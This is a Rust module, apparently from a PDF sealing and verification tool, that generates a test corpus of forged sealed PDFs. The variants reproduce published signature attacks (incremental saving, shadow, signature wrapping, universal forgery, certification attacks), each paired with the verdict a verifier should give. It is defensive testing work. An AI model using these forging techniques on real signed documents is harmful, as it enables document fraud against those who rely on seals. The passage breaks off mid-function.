//! The attack corpus: hostile variants of a sealed PDF, one file per
//! published attack on PDF signatures, which the tests and administrators
//! use to hold verifiers (ours, and any other) against the attack classes:
//!
//! - incremental saving attacks (ISA; Mladenov et al., "1 Trillion Dollar
//!   Refund", CCS 2019): a revision after the seal that redefines what the
//!   page shows, in every way a cross-reference can be arranged (a second,
//!   earlier section of the same update, a `/Prev` chain that skips the
//!   signed section, a hybrid file's `/XRefStm`, an object stream, bodies no
//!   cross-reference lists);
//! - shadow attacks (Mainka, Mladenov, Rohlmann, USENIX Security 2021):
//!   hide, replace, hide-and-replace, where the signed file already carries
//!   what the update merely points at;
//! - signature wrapping (SWA) and universal signature forgery (USF), CCS
//!   2019: a rewritten signature dictionary whose /ByteRange or /Contents
//!   lies;
//! - the certification attacks of NDSS 2021: evil annotation and sneaky
//!   signature, on a document certified with DocMDP P=2 or P=3.
//!
//! Each file is built with a byte-level writer of the corpus's own
//! ([`writer`]) on top of the given sealed letter and of a two-seal file
//! made from it, has a stable id, its class, a one-line description and
//! what a sound verifier says of it ([`Expected`]). The untouched and the
//! properly double-sealed (and certified) files are controls, to be valid.
//!
//! Our verifier's verdicts are stricter than the DocMDP permissions: after
//! any seal only what a signature needs may be added, so an annotation a
//! P=3 certification would permit still makes the seal "modified after
//! signing" (a seal stands for paper, and paper gains no sticky notes).

mod certify;
mod writer;

use std::collections::BTreeMap;

use chrono::{DateTime, FixedOffset};

use crate::appearance::{Appearance, Placement};
use crate::cms::CmsError;
use crate::pdf::document::Document;
use crate::pdf::incremental;
use crate::pdf::object::{Dictionary, Object, ObjectId, Stream};
use crate::pdf::serialize::write_indirect;
use crate::pdf::xref::{XrefEntry, XrefKind};
use crate::pdf::PdfError;
use crate::sign::{sign_pdf, SignError, SignRequest};
use crate::signer::Signer;
use crate::verify::{Coverage, Report, SignatureStatus, Trust};

pub use certify::certify;
use writer::{at, Page, Writer};

/// The published attack classes, and the controls.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum AttackClass {
    /// Untouched sealed files: every signature valid.
    Control,
    /// Incremental saving attacks (ISA, CCS 2019).
    IncrementalSaving,
    /// Shadow attacks: hide, replace, hide-and-replace (USENIX Security 2021).
    Shadow,
    /// Signature wrapping (SWA, CCS 2019).
    SignatureWrapping,
    /// Universal signature forgery (USF, CCS 2019).
    UniversalForgery,
    /// Evil annotation and sneaky signature (NDSS 2021).
    Certification,
}

impl AttackClass {
    /// A stable code.
    pub fn code(&self) -> &'static str {
        match self {
            AttackClass::Control => "control",
            AttackClass::IncrementalSaving => "isa",
            AttackClass::Shadow => "shadow",
            AttackClass::SignatureWrapping => "swa",
            AttackClass::UniversalForgery => "usf",
            AttackClass::Certification => "certification",
        }
    }

    /// The class as the literature names it.
    pub fn title(&self) -> &'static str {
        match self {
            AttackClass::Control => "control",
            AttackClass::IncrementalSaving => "incremental saving attack",
            AttackClass::Shadow => "shadow attack",
            AttackClass::SignatureWrapping => "signature wrapping",
            AttackClass::UniversalForgery => "universal signature forgery",
            AttackClass::Certification => "certification attack",
        }
    }
}

/// What a sound verifier says of a corpus file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Expected {
    /// Every signature valid (a control).
    Valid,
    /// Refused (not every signature valid), and a signature is "modified
    /// after signing" with a reason holding each of these words.
    Modified(&'static [&'static str]),
    /// Refused (not every signature valid), and a signature is malformed
    /// (its /ByteRange or /Contents is not what a signature needs).
    Malformed,
    /// Refused (not every signature valid), because a signature's signer is
    /// not trusted, with a reason holding each of these words; what was
    /// signed before it is still covered.
    Untrusted(&'static [&'static str]),
}

/// One file of the corpus.
#[derive(Debug, Clone)]
pub struct CorpusFile {
    /// Stable, e.g. `isa-earlier-section-one-seal`; the file is `<id>.pdf`.
    pub id: String,
    pub class: AttackClass,
    /// One line: what the attack does.
    pub description: String,
    pub expected: Expected,
    pub bytes: Vec<u8>,
}

impl CorpusFile {
    pub fn file_name(&self) -> String {
        format!("{}.pdf", self.id)
    }

    /// Whether `report` (our verifier's, or one read from another tool's
    /// output into the same shape) says what [`Self::expected`] says; the
    /// mismatch otherwise.
    pub fn judge(&self, report: &Report) -> Result<(), String> {
        let describe = || {
            report
                .signatures
                .iter()
                .map(|s| {
                    format!(
                        "{}: {} / {} / {}",
                        s.field_name,
                        s.status.message_zh(),
                        s.coverage.message_zh(),
                        s.trust.message_zh()
                    )
                })
                .collect::<Vec<_>>()
                .join("; ")
        };
        match self.expected {
            Expected::Valid if report.all_valid() => Ok(()),
            Expected::Valid => Err(format!(
                "{}: a control is not valid: {}",
                self.id,
                describe()
            )),
            _ if report.signatures.is_empty() => {
                Err(format!("{}: no signature found at all", self.id))
            }
            _ if report.all_valid() => Err(format!(
                "{}: accepted as all valid: {}",
                self.id,
                describe()
            )),
            Expected::Malformed => report
                .signatures
                .iter()
                .any(|s| {
                    matches!(
                        s.status,
                        SignatureStatus::MalformedByteRange(_) | SignatureStatus::MalformedCms(_)
                    )
                })
                .then_some(())
                .ok_or_else(|| format!("{}: no malformed signature: {}", self.id, describe())),
            Expected::Untrusted(words) => report
                .signatures
                .iter()
                .any(|s| match &s.trust {
                    Trust::Untrusted(why) => {
                        s.status == SignatureStatus::Valid && words.iter().all(|w| why.contains(w))
                    }
                    Trust::Trusted { .. } => false,
                })
                .then_some(())
                .ok_or_else(|| {
                    format!(
                        "{}: no intact signature untrusted with {words:?}: {}",
                        self.id,
                        describe()
                    )
                }),
            Expected::Modified(words) => report
                .signatures
                .iter()
                .any(|s| match &s.coverage {
                    Coverage::ModifiedAfterSigning(why) => words.iter().all(|w| why.contains(w)),
                    _ => false,
                })
                .then_some(())
                .ok_or_else(|| {
                    format!(
                        "{}: no signature modified after signing with {words:?}: {}",
                        self.id,
                        describe()
                    )
                }),
        }
    }
}

/// Why the corpus could not be built.
#[derive(Debug, thiserror::Error)]
pub enum CorpusError {
    #[error("攻击样本无法读取所给 PDF：{0}")]
    Pdf(#[from] PdfError),
    #[error("攻击样本无法签章：{0}")]
    Sign(#[from] SignError),
    #[error("攻击样本无法生成签名：{0}")]
    Cms(#[from] CmsError),
    #[error("攻击样本无法生成：{0}")]
    Structure(String),
}

/// What the corpus is built from.
pub struct CorpusInput<'a> {
    /// A sealed decision letter with one seal.
    pub sealed: &'a [u8],
    /// A seal the verifier trusts: the second seal of the two-seal files,
    /// the certification and the files the shadow attacks prepare.
    pub trusted: &'a dyn Signer,
    /// A seal under a root the verifier does not trust (a sneaky signature).
    pub untrusted: &'a dyn Signer,
    /// The signing time claimed by the corpus's own signatures.
    pub signing_time: DateTime<FixedOffset>,
}

/// The whole corpus, controls first.
pub fn build(input: &CorpusInput<'_>) -> Result<Vec<CorpusFile>, CorpusError> {
    let mut corpus = Corpus::default();
    let one = input.sealed.to_vec();
    let two = sign_pdf(
        &one,
        input.trusted,
        &request(input, "第二枚印章", Some(SECOND_SEAL)),
    )?;
    let unsigned = unsigned_prefix(&one)?;
    let certified = certify(
        &unsigned,
        input.trusted,
        &request(input, "认证签章", Some(SECOND_SEAL)),
        2,
    )?;
    let certified_p3 = certify(
        &unsigned,
        input.trusted,
        &request(input, "认证签章", Some(SECOND_SEAL)),
        3,
    )?;
    let certified_p1 = certify(
        &unsigned,
        input.trusted,
        &request(input, "认证签章", None),
        1,
    )?;
    // Invisible: a new visible field after a certification is what pyHanko
    // refuses by policy (the sneaky-signature defence), so the control
    // that all verifiers must accept adds none.
    let certified_sealed = sign_pdf(&certified, input.trusted, &request(input, "批准签章", None))?;
    let certified_p3_sealed = sign_pdf(
        &certified_p3,
        input.trusted,
        &request(input, "批准签章", Some(FIRST_SEAL)),
    )?;
    let bases: [(&str, &[u8]); 2] = [("one-seal", &one), ("two-seals", &two)];

    use AttackClass::*;
    corpus.add(
        "control-one-seal",
        Control,
        "the sealed letter as given",
        Expected::Valid,
        one.clone(),
    );
    corpus.add(
        "control-two-seals",
        Control,
        "the letter with a second, trusted visible seal",
        Expected::Valid,
        two.clone(),
    );
    corpus.add(
        "control-certified",
        Control,
        "the letter certified (DocMDP P=2) by a trusted seal",
        Expected::Valid,
        certified.clone(),
    );
    corpus.add(
        "control-certified-sealed",
        Control,
        "the certified letter (P=2) with a trusted, invisible approval seal after it",
        Expected::Valid,
        certified_sealed.clone(),
    );

    // --- Incremental saving attacks ---
    for (base_name, base) in bases {
        let id = |variant: &str| format!("isa-{variant}-{base_name}");
        corpus.add(
            &id("content-redefined"),
            IncrementalSaving,
            "an update redefines the page's content stream",
            Expected::Modified(&["页面内容"]),
            isa_content_redefined(base)?,
        );
        corpus.add(&id("earlier-section"), IncrementalSaving, "the content redefinition sits in the earlier of the update's two cross-reference sections; the newest lists only an unchanged font", Expected::Modified(&["页面内容"]), isa_earlier_section(base)?);
        corpus.add(&id("prev-skips-signed"), IncrementalSaving, "the update's /Prev skips the signed revision's section (whose entries it copies) and redefines the content", Expected::Modified(&["页面内容"]), isa_prev_skips(base)?);
        corpus.add(&id("hybrid-xrefstm"), IncrementalSaving, "a hybrid update: its table lists an unchanged font, its /XRefStm stream redefines the content", Expected::Modified(&["页面内容"]), isa_hybrid(base, false)?);
        corpus.add(&id("hybrid-conflict"), IncrementalSaving, "a hybrid update whose table keeps the content's old entry while its /XRefStm redefines it (readers disagree)", Expected::Modified(&["XRefStm"]), isa_hybrid(base, true)?);
        corpus.add(
            &id("duplicate-entry"),
            IncrementalSaving,
            "an update whose table lists the content twice, first where it was, then at a forged body (readers keep the first or the last)",
            Expected::Modified(&["两个不同的位置"]),
            isa_duplicate_entry(base)?,
        );
        corpus.add(
            &id("object-stream"),
            IncrementalSaving,
            "the page is redefined inside a new object stream, pointing at a forged content stream",
            Expected::Modified(&["页面"]),
            isa_object_stream(base)?,
        );
        corpus.add(&id("appended-no-xref"), IncrementalSaving, "a content redefinition appended with no cross-reference or trailer (for viewers that repair)", Expected::Modified(&["不属于任何修订版本"]), isa_appended_no_xref(base));
        corpus.add(&id("unlisted-body"), IncrementalSaving, "an update whose cross-reference lists an unchanged font but whose body also holds an unlisted content redefinition", Expected::Modified(&["交叉引用"]), isa_unlisted_body(base)?);
        corpus.add(
            &id("new-page"),
            IncrementalSaving,
            "an update adds a page with forged content",
            Expected::Modified(&["页面结构"]),
            isa_new_page(base)?,
        );
        corpus.add(
            &id("catalog-pages"),
            IncrementalSaving,
            "the catalog's /Pages is replaced by a tree that rotates the signed page",
            Expected::Modified(&["文档目录"]),
            isa_catalog_pages(base)?,
        );
        corpus.add(
            &id("catalog-openaction"),
            IncrementalSaving,
            "the catalog gains an /OpenAction",
            Expected::Modified(&["文档目录"]),
            isa_catalog_open_action(base)?,
        );
    }

    // --- Shadow attacks ---
    let (hide_doc, overlay, unused_body) = shadow::prepare_hide(&unsigned)?;
    let (replace_doc, content, forged_body) = shadow::prepare_hide_and_replace(&unsigned)?;
    let (form_doc, field) = shadow::prepare_form(&unsigned)?;
    for (seals, seal_name) in [(1, "one-seal"), (2, "two-seals")] {
        let hide = seal_times(input, &hide_doc, seals)?;
        let hide_replace = seal_times(input, &replace_doc, seals)?;
        let id = |variant: &str| format!("shadow-{variant}-{seal_name}");
        corpus.add(
            &format!("control-shadow-prepared-{seal_name}"),
            Control,
            "a sealed file that carries an overlay and an unused object body (not yet attacked)",
            Expected::Valid,
            hide.clone(),
        );
        corpus.add(&id("hide-by-entry"), Shadow, "hide: a new cross-reference entry points the overlay at an unused body already in the signed file (no object added)", Expected::Modified(&["外观或表单对象"]), shadow::repoint(&hide, overlay, Some(unused_body))?);
        corpus.add(
            &id("hide-by-free"),
            Shadow,
            "hide: the update frees the overlay object",
            Expected::Modified(&["删除了"]),
            shadow::repoint(&hide, overlay, None)?,
        );
        corpus.add(
            &id("hide-and-replace"),
            Shadow,
            "hide-and-replace: the content's entry now points at a second definition hidden in the signed file (no object added)",
            Expected::Modified(&["页面内容"]),
            shadow::repoint(&hide_replace, content, Some(forged_body))?,
        );
        let form = seal_times(input, &form_doc, seals)?;
        corpus.add(
            &format!("control-shadow-form-{seal_name}"),
            Control,
            "a sealed file that carries a filled-in text field (not yet attacked)",
            Expected::Valid,
            form.clone(),
        );
        corpus.add(
            &id("replace-form-field"),
            Shadow,
            "replace: the value and appearance of a text field the signed file carries are rewritten after signing",
            Expected::Modified(&["表单域"]),
            shadow::replace_field(&form, field)?,
        );
    }
    for (base_name, base) in bases {
        let id = |variant: &str| format!("shadow-{variant}-{base_name}");
        corpus.add(
            &id("replace-freetext"),
            Shadow,
            "replace: a FreeText annotation over the decision added after signing",
            Expected::Modified(&["注释 /FreeText"]),
            add_annotation(base, "FreeText")?,
        );
        if let Some(bytes) = shadow::replace_font(base)? {
            corpus.add(
                &id("replace-font"),
                Shadow,
                "replace: the page's font object redefined",
                Expected::Modified(&["字体"]),
                bytes,
            );
        }
    }

    // --- Signature wrapping and universal signature forgery ---
    for (base_name, base) in bases {
        corpus.add(&format!("swa-relocated-{base_name}"), SignatureWrapping, "a new signature dictionary whose /ByteRange points at the relocated second signed part, forged objects in the freed space", Expected::Malformed, forge::wrapping(base)?);
        for (variant, description, change) in forge::USF_VARIANTS {
            corpus.add(
                &format!("usf-{variant}-{base_name}"),
                UniversalForgery,
                description,
                Expected::Malformed,
                forge::universal(base, *change)?,
            );
        }
    }

    // --- Certification attacks ---
    let evil: [(&str, &'static [&'static str]); 3] = [
        ("FreeText", &["注释 /FreeText"]),
        ("Stamp", &["注释 /Stamp"]),
        ("Redact", &["注释 /Redact"]),
    ];
    for (subtype, words) in evil {
        let variant = subtype.to_lowercase();
        corpus.add(
            &format!("cert-evil-annotation-{variant}-p3"),
            Certification,
            &format!(
                "evil annotation: a {subtype} annotation added to a document certified with P=3"
            ),
            Expected::Modified(words),
            add_annotation(&certified_p3, subtype)?,
        );
        corpus.add(&format!("cert-evil-annotation-{variant}-p3-sealed"), Certification, &format!("evil annotation: a {subtype} annotation added after a certification (P=3) and an approval seal"), Expected::Modified(words), add_annotation(&certified_p3_sealed, subtype)?);
    }
    let sneaky_bases: [(&str, &[u8]); 4] = [
        ("certified", &certified),
        ("certified-sealed", &certified_sealed),
        ("one-seal", &one),
        ("two-seals", &two),
    ];
    for (base_name, base) in sneaky_bases {
        corpus.add(
            &format!("cert-sneaky-unsigned-field-{base_name}"),
            Certification,
            "sneaky signature: a /FT /Sig field without a value whose widget draws over the page",
            Expected::Modified(&["没有签名值的签名域"]),
            sneaky::unsigned_field(base)?,
        );
    }
    for (base_name, base) in [("certified", &certified[..]), ("one-seal", &one[..])] {
        // After a certification the intruder's appearance breaks the
        // certified document; after an approval seal it is reported as an
        // untrusted seal (it may be a department whose root this desk
        // lacks), and the file is refused all the same.
        let expected = if base_name == "certified" {
            Expected::Modified(&["不受信任"])
        } else {
            Expected::Untrusted(&["签发链不通向受信任的根证书"])
        };
        corpus.add(&format!("cert-sneaky-untrusted-{base_name}"), Certification, "sneaky signature: a visible signature over the page by a key no trusted root vouches for", expected, sign_pdf(base, input.untrusted, &request(input, "伪签章", Some(COVERING)))?);
        corpus.add(&format!("cert-sneaky-appearance-outside-{base_name}"), Certification, "sneaky signature: a trusted visible signature whose appearance is replaced outside its signed range", Expected::Modified(&["签名范围之内"]), sneaky::appearance_outside(&sign_pdf(base, input.trusted, &request(input, "批准签章", Some(COVERING)))?)?);
    }
    corpus.add(
        "cert-p1-later-signature",
        Certification,
        "a document certified with P=1 (no changes) signed again afterwards",
        Expected::Modified(&["P=1"]),
        sign_pdf(
            &certified_p1,
            input.trusted,
            &request(input, "批准签章", None),
        )?,
    );
    Ok(corpus.files)
}

#[derive(Default)]
struct Corpus {
    files: Vec<CorpusFile>,
}

impl Corpus {
    fn add(
        &mut self,
        id: &str,
        class: AttackClass,
        description: &str,
        expected: Expected,
        bytes: Vec<u8>,
    ) {
        self.files.push(CorpusFile {
            id: id.to_owned(),
            class,
            description: description.to_owned(),
            expected,
            bytes,
        });
    }
}

/// Where the corpus's seals go on the page (points).
const FIRST_SEAL: [f32; 4] = [100.0, 80.0, 220.0, 200.0];
const SECOND_SEAL: [f32; 4] = [250.0, 80.0, 370.0, 200.0];
/// A "signature" appearance laid over the decision text.
const COVERING: [f32; 4] = [72.0, 540.0, 522.0, 700.0];

fn request(input: &CorpusInput<'_>, field: &str, rect: Option<[f32; 4]>) -> SignRequest {
    SignRequest {
        field_name: field.to_owned(),
        reason: Some("攻击样本".to_owned()),
        location: None,
        name: None,
        signing_time: input.signing_time,
        visible: rect.map(|rect| {
            let (width, height) = (rect[2] - rect[0], rect[3] - rect[1]);
            let content = if rect == COVERING {
                format!(
                    "q 1 1 1 rg 0 0 {width} {height} re f Q q 0.8 0 0 rg 10 10 {} {} re f Q",
                    width - 20.0,
                    height - 20.0
                )
            } else {
                format!(
                    "q 0.8 0 0 RG 4 w 10 10 {} {} re S Q",
                    width - 20.0,
                    height - 20.0
                )
            };
            (
                Placement {
                    page_index: 0,
                    rect,
                },
                Appearance {
                    width,
                    height,
                    content: content.into_bytes(),
                },
            )
        }),
    }
}

/// `pdf` sealed `times` times by the trusted seal.
fn seal_times(input: &CorpusInput<'_>, pdf: &[u8], times: usize) -> Result<Vec<u8>, CorpusError> {
    let mut out = pdf.to_vec();
    for (i, rect) in [FIRST_SEAL, SECOND_SEAL]
        .into_iter()
        .enumerate()
        .take(times)
    {
        out = sign_pdf(
            &out,
            input.trusted,
            &request(input, &format!("影子印章{}", i + 1), Some(rect)),
        )?;
    }
    Ok(out)
}

/// The sealed file as it was before its first seal: the bytes up to the
/// `%%EOF` before the earliest signature's /Contents.
fn unsigned_prefix(sealed: &[u8]) -> Result<Vec<u8>, CorpusError> {
    let doc = Document::load(sealed)?;
    let first_gap = crate::verify::signature_fields(&doc)?
        .iter()
        .filter_map(|(_, (sig, _))| {
            sig.get(b"ByteRange")
                .and_then(Object::as_array)
                .and_then(|a| a.get(1))
                .and_then(Object::as_i64)
                .and_then(|a| usize::try_from(a).ok())
        })
        .min()
        .ok_or_else(|| CorpusError::Structure("the file carries no signature".into()))?;
    let before = sealed
        .get(..first_gap)
        .ok_or_else(|| CorpusError::Structure("/ByteRange outside the file".into()))?;
    let eof = crate::pdf::parse::rfind(before, b"%%EOF")
        .ok_or_else(|| CorpusError::Structure("no revision before the seal".into()))?;
    let mut end = eof + b"%%EOF".len();
    while matches!(sealed.get(end), Some(b'\r' | b'\n')) {
        end += 1;
    }
    let unsigned = sealed[..end].to_vec();
    Document::load(&unsigned)?;
    Ok(unsigned)
}

/// The object `num` with its generation.
fn id_of(doc: &Document<'_>, num: u32) -> Result<ObjectId, CorpusError> {
    Ok(doc.get(num)?.0)
}

fn append(doc: &Document<'_>, objects: &[(ObjectId, Object)]) -> Result<Vec<u8>, CorpusError> {
    Ok(incremental::append(doc, objects)?.bytes)
}

fn isa_content_redefined(base: &[u8]) -> Result<Vec<u8>, CorpusError> {
    let doc = Document::load(base)?;
    let page = Page::first(&doc)?;
    append(
        &doc,
        &[(id_of(&doc, page.content)?, writer::forged_content())],
    )
}

/// An object of the signed file rewritten as it is: a harmless entry.
fn harmless(doc: &Document<'_>, page: &Page) -> Result<(ObjectId, Object), CorpusError> {
    let num = page.font.unwrap_or(page.id.0);
    Ok(doc.get(num)?)
}

fn isa_earlier_section(base: &[u8]) -> Result<Vec<u8>, CorpusError> {
    let doc = Document::load(base)?;
    let page = Page::first(&doc)?;
    let kind = doc.last_xref_kind();
    let next = doc.next_object_number();
    let mut w = Writer::after(base);
    let content = w.object(id_of(&doc, page.content)?, &writer::forged_content());
    let earlier = BTreeMap::from([(page.content, at(content))]);
    let first = w.section(
        kind,
        next,
        &earlier,
        &writer::trailer(&doc, next, doc.startxref()),
    );
    let (id, object) = harmless(&doc, &page)?;
    let offset = w.object(id, &object);
    let newest = BTreeMap::from([(id.0, at(offset))]);
    let second = w.section(
        kind,
        next + 1,
        &newest,
        &writer::trailer(&doc, next + 1, first),
    );
    Ok(w.finish(second))
}

fn isa_prev_skips(base: &[u8]) -> Result<Vec<u8>, CorpusError> {
    let doc = Document::load(base)?;
    let page = Page::first(&doc)?;
    let signed = doc
        .sections()
        .first()
        .ok_or_else(|| CorpusError::Structure("no section".into()))?;
    let before = signed
        .trailer
        .get(b"Prev")
        .and_then(Object::as_i64)
        .and_then(|p| usize::try_from(p).ok())
        .ok_or_else(|| CorpusError::Structure("the signed section has no /Prev".into()))?;
    let next = doc.next_object_number();
    let mut w = Writer::after(base);
    let mut entries = signed.entries.clone();
    let content = w.object(id_of(&doc, page.content)?, &writer::forged_content());
    entries.insert(page.content, at(content));
    let section = w.section(
        signed.kind,
        next,
        &entries,
        &writer::trailer(&doc, next, before),
    );
    Ok(w.finish(section))
}

fn isa_hybrid(base: &[u8], conflict: bool) -> Result<Vec<u8>, CorpusError> {
    let doc = Document::load(base)?;
    let page = Page::first(&doc)?;
    let next = doc.next_object_number();
    let mut w = Writer::after(base);
    let content = w.object(id_of(&doc, page.content)?, &writer::forged_content());
    let mut stream_trailer = Dictionary::new();
    stream_trailer.set(b"Size", Object::Integer(i64::from(next) + 1));
    let stream = w.xref_stream(
        next,
        &BTreeMap::from([(page.content, at(content))]),
        &stream_trailer,
    );
    let mut table = BTreeMap::from([(next, at(stream))]);
    if conflict {
        let old =
            doc.xref().get(&page.content).copied().ok_or_else(|| {
                CorpusError::Structure("content not in the cross-reference".into())
            })?;
        table.insert(page.content, old);
    } else {
        let (id, object) = harmless(&doc, &page)?;
        table.insert(id.0, at(w.object(id, &object)));
    }
    let mut trailer = writer::trailer(&doc, next, doc.startxref());
    trailer.set(b"XRefStm", Object::Integer(stream as i64));
    let section = w.table(&table, &trailer);
    Ok(w.finish(section))
}

fn isa_duplicate_entry(base: &[u8]) -> Result<Vec<u8>, CorpusError> {
    let doc = Document::load(base)?;
    let page = Page::first(&doc)?;
    let old = match doc.xref().get(&page.content) {
        Some(XrefEntry::InFile { offset, .. }) => *offset,
        _ => return Err(CorpusError::Structure("content not in the file".into())),
    };
    let id = id_of(&doc, page.content)?;
    let mut w = Writer::after(base);
    let forged = w.object(id, &writer::forged_content());
    let table = w.out.len();
    let num = page.content;
    let generation = id.1;
    w.out.extend_from_slice(
        format!(
            "xref\n{num} 1\n{old:010} {generation:05} n\r\n{num} 1\n{forged:010} {generation:05} n\r\ntrailer\n"
        )
        .as_bytes(),
    );
    let trailer = writer::trailer(&doc, num, doc.startxref());
    crate::pdf::serialize::write_object(&mut w.out, &Object::Dictionary(trailer));
    w.out.push(b'\n');
    Ok(w.finish(table))
}

fn isa_object_stream(base: &[u8]) -> Result<Vec<u8>, CorpusError> {
    let doc = Document::load(base)?;
    let page = Page::first(&doc)?;
    let next = doc.next_object_number();
    let (objstm, content, own) = (next, next + 1, next + 2);
    let mut page_dict = page.dict.clone();
    page_dict.set(b"Contents", Object::Reference((content, 0)));
    let mut packed = Vec::new();
    crate::pdf::serialize::write_object(&mut packed, &Object::Dictionary(page_dict));
    let header = format!("{} 0 ", page.id.0);
    let mut data = header.clone().into_bytes();
    data.extend_from_slice(&packed);
    let mut dict = Dictionary::new();
    dict.set(b"Type", Object::name("ObjStm"));
    dict.set(b"N", Object::Integer(1));
    dict.set(b"First", Object::Integer(header.len() as i64));
    let mut w = Writer::after(base);
    let content_at = w.object((content, 0), &writer::forged_content());
    let objstm_at = w.object((objstm, 0), &Object::Stream(Stream { dict, data }));
    let entries = BTreeMap::from([
        (
            page.id.0,
            XrefEntry::InStream {
                stream: objstm,
                index: 0,
            },
        ),
        (objstm, at(objstm_at)),
        (content, at(content_at)),
    ]);
    let section = w.xref_stream(own, &entries, &writer::trailer(&doc, own, doc.startxref()));
    Ok(w.finish(section))
}

fn isa_appended_no_xref(base: &[u8]) -> Vec<u8> {
    let mut out = Writer::after(base).out;
    // The content's own number: a repairing reader takes the last body.
    let num = Document::load(base)
        .ok()
        .and_then(|doc| Page::first(&doc).ok())
        .map_or(5, |p| p.content);
    write_indirect(&mut out, (num, 0), &writer::forged_content());
    out
}

fn isa_unlisted_body(base: &[u8]) -> Result<Vec<u8>, CorpusError> {
    let doc = Document::load(base)?;
    let page = Page::first(&doc)?;
    let next = doc.next_object_number();
    let mut w = Writer::after(base);
    w.object(id_of(&doc, page.content)?, &writer::forged_content());
    let (id, object) = harmless(&doc, &page)?;
    let offset = w.object(id, &object);
    let section = w.section(
        doc.last_xref_kind(),
        next,
        &BTreeMap::from([(id.0, at(offset))]),
        &writer::trailer(&doc, next, doc.startxref()),
    );
    Ok(w.finish(section))
}

/// The page tree's root and its dictionary.
fn page_tree(doc: &Document<'_>) -> Result<(Dictionary, ObjectId, Dictionary), CorpusError> {
    let (_, catalog) = doc.catalog()?;
    let root = catalog
        .get(b"Pages")
        .and_then(Object::as_reference)
        .ok_or_else(|| CorpusError::Structure("catalog without /Pages".into()))?;
    let (id, tree) = doc.get(root.0)?;
    let tree = tree
        .as_dict()
        .cloned()
        .ok_or_else(|| CorpusError::Structure("/Pages is no dictionary".into()))?;
    Ok((catalog, id, tree))
}

fn isa_new_page(base: &[u8]) -> Result<Vec<u8>, CorpusError> {
    let doc = Document::load(base)?;
    let page = Page::first(&doc)?;
    let (_, tree_id, mut tree) = page_tree(&doc)?;
    let next = doc.next_object_number();
    let mut new_page = page.dict.clone();
    new_page.remove(b"Annots");
    new_page.set(b"Parent", Object::Reference(tree_id));
    new_page.set(b"Contents", Object::Reference((next + 1, 0)));
    let mut kids = tree
        .get(b"Kids")
        .and_then(|k| doc.resolve(k).ok())
        .and_then(|k| k.as_array().map(<[Object]>::to_vec))
        .unwrap_or_default();
    kids.push(Object::Reference((next, 0)));
    let count = tree.get(b"Count").and_then(Object::as_i64).unwrap_or(1);
    tree.set(b"Kids", Object::Array(kids));
    tree.set(b"Count", Object::Integer(count + 1));
    append(
        &doc,
        &[
            (tree_id, Object::Dictionary(tree)),
            ((next, 0), Object::Dictionary(new_page)),
            ((next + 1, 0), writer::forged_content()),
        ],
    )
}

fn isa_catalog_pages(base: &[u8]) -> Result<Vec<u8>, CorpusError> {
    let doc = Document::load(base)?;
    let page = Page::first(&doc)?;
    let (mut catalog, _, tree) = page_tree(&doc)?;
    let (catalog_id, _) = doc.catalog()?;
    let next = doc.next_object_number();
    let mut rotated = tree.clone();
    rotated.set(b"Kids", Object::Array(vec![Object::Reference(page.id)]));
    rotated.set(b"Count", Object::Integer(1));
    rotated.set(b"Rotate", Object::Integer(180));
    catalog.set(b"Pages", Object::Reference((next, 0)));
    append(
        &doc,
        &[
            (catalog_id, Object::Dictionary(catalog)),
            ((next, 0), Object::Dictionary(rotated)),
        ],
    )
}

fn isa_catalog_open_action(base: &[u8]) -> Result<Vec<u8>, CorpusError> {
    let doc = Document::load(base)?;
    let (catalog_id, mut catalog) = doc.catalog()?;
    let mut action = Dictionary::new();
    action.set(b"S", Object::name("URI"));
    action.set(
        b"URI",
        Object::String(b"https://forged.example.invalid/".to_vec()),
    );
    catalog.set(b"OpenAction", Object::Dictionary(action));
    append(&doc, &[(catalog_id, Object::Dictionary(catalog))])
}

/// An annotation of `subtype` over the decision, added to the first page.
fn add_annotation(base: &[u8], subtype: &str) -> Result<Vec<u8>, CorpusError> {
    let doc = Document::load(base)?;
    let page = Page::first(&doc)?;
    let next = doc.next_object_number();
    let (annot, appearance) = ((next, 0), (next + 1, 0));
    let mut objects = vec![
        (annot, writer::annotation(subtype, page.id, appearance)),
        (appearance, writer::covering_appearance()),
    ];
    objects.extend(writer::attach(&doc, &page, annot, false)?);
    append(&doc, &objects)
}

mod shadow {
    //! Shadow attacks: the signed file is prepared by the attacker, so
    //! the update after the seal only points at what is already there.

    use super::*;

    /// The letter with an overlay (a white form XObject the page draws over
    /// a red block) and an unused, empty body of the same object: the
    /// prepared file, the overlay's number and the unused body's offset.
    pub fn prepare_hide(unsigned: &[u8]) -> Result<(Vec<u8>, u32, usize), CorpusError> {
        let doc = Document::load(unsigned)?;
        let page = Page::first(&doc)?;
        let next = doc.next_object_number();
        let (overlay, hidden) = (next, next + 1);
        let mut w = Writer::after(unsigned);
        let unused = w.object((overlay, 0), &writer::form_xobject(595, 842, b""));
        let overlay_at = w.object(
            (overlay, 0),
            &writer::form_xobject(595, 842, b"q 1 1 1 rg 72 560 450 120 re f Q"),
        );
        let hidden_at = w.object(
            (hidden, 0),
            &writer::stream(
                Dictionary::new(),
                b"q 0.8 0 0 rg 72 560 450 120 re f Q q /ShadowOverlay Do Q",
            ),
        );
        let mut contents = match page.dict.get(b"Contents") {
            Some(Object::Reference(r)) => match doc.get(r.0)?.1 {
                Object::Array(parts) => parts,
                _ => vec![Object::Reference(*r)],
            },
            Some(Object::Array(parts)) => parts.clone(),
            _ => Vec::new(),
        };
        contents.push(Object::Reference((hidden, 0)));
        let mut resources = page.resources(&doc);
        let mut xobjects = resources
            .get(b"XObject")
            .and_then(|x| doc.resolve_dict(x).ok())
            .unwrap_or_default();
        xobjects.set(b"ShadowOverlay", Object::Reference((overlay, 0)));
        resources.set(b"XObject", Object::Dictionary(xobjects));
        let mut page_dict = page.dict.clone();
        page_dict.set(b"Contents", Object::Array(contents));
        page_dict.set(b"Resources", Object::Dictionary(resources));
        let page_at = w.object(page.id, &Object::Dictionary(page_dict));
        let entries = BTreeMap::from([
            (overlay, at(overlay_at)),
            (hidden, at(hidden_at)),
            (page.id.0, at(page_at)),
        ]);
        let section = w.section(
            doc.last_xref_kind(),
            next + 2,
            &entries,
            &writer::trailer(&doc, next + 2, doc.startxref()),
        );
        Ok((w.finish(section), overlay, unused))
    }

    /// The letter with a second, forged definition of its content stream
    /// that no cross-reference lists: the prepared file, the content's
    /// number and the forged body's offset.
    pub fn prepare_hide_and_replace(unsigned: &[u8]) -> Result<(Vec<u8>, u32, usize), CorpusError> {
